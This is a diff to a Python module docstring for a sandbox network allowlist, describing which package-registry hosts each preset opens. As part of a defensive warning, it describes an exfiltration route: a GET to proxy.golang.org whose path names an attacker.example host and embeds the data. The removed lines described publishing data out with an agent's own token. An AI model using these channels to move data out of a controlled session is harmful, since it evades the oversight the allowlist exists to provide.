@@ -1,18 +1,18 @@
 """Package registries on demand: the hosts each ecosystem's standard client needs.
 
 A preset is a name for the hosts one client talks to when it installs packages: the
-index and the hosts its files are served from. `start --allow-preset NAME`, `allow NAME
---preset NAME` and config `allowed_presets` add them to a session's allowlist, where
-they are recorded as hosts (the record never depends on this table staying the same).
-Pure data; the README lists each host with the client documentation that names it.
+index and the hosts its files are served from. `include: NAME` in a policy file, `start
+--allow-preset NAME`, `allow NAME --preset NAME` and config `allowed_presets` all give
+the same rules (netpolicy.rules.expand): GET and HEAD on these hosts, which the
+companion decrypts, so the uploads the registries take on the same hosts (twine, npm
+publish, cargo publish, gem push) are refused. A session records its presets by name.
+Pure data; docs/environment.md lists each host with the client documentation that
+names it.
 
-A preset is not a read-only opening. Each is also a channel out: pypi, npm, crates.io and
-rubygems take uploads (twine, npm publish, cargo publish, gem push) on these same hosts
-from any account, so an agent with a token of its own can publish what it holds; and the
-go preset needs no account at all, since proxy.golang.org fetches any module path it is
-asked for (a request for /attacker.example/DATA/@v/list makes it contact
-attacker.example, the data in the path). Allow one only for a session you would let send
-data to the public.
+A preset is still a channel out through the URL of a GET: the go preset needs no
+account at all, since proxy.golang.org fetches any module path it is asked for (a
+request for /attacker.example/DATA/@v/list makes it contact attacker.example, the data
+in the path). Allow one only for a session you would let send data to the public.
 """
 
 from __future__ import annotations
